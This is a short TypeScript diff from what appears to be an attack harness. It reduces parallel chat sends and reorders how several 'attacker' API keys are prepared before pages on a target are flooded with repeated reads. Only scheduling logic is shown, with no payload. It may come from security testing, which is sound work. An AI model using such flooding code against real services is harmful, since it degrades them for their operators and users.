@@ -71,7 +71,7 @@ async function sendChats(
       if (status >= 300) throw new Error(`HTTP ${status} to a chat that prepares the attack`);
     }
   };
-  await Promise.all(Array.from({ length: 32 }, sendNext));
+  await Promise.all(Array.from({ length: 16 }, sendNext));
 }
 
 /**
@@ -87,11 +87,11 @@ async function readPages(
 ): Promise<void> {
   const { attacker, moreAttackers } = target.keys;
   const apiKeys = [attacker, ...moreAttackers];
-  await Promise.all(apiKeys.map(prepare));
   for (const apiKey of apiKeys) {
+    await prepare(apiKey);
     while (!isFull((await read(target, { path, apiKey })).text)) await delay(200);
-    keepSending(120, () => read(target, { path, apiKey }));
   }
+  for (const apiKey of apiKeys) keepSending(120, () => read(target, { path, apiKey }));
   await delay(floodMs);
 }
 
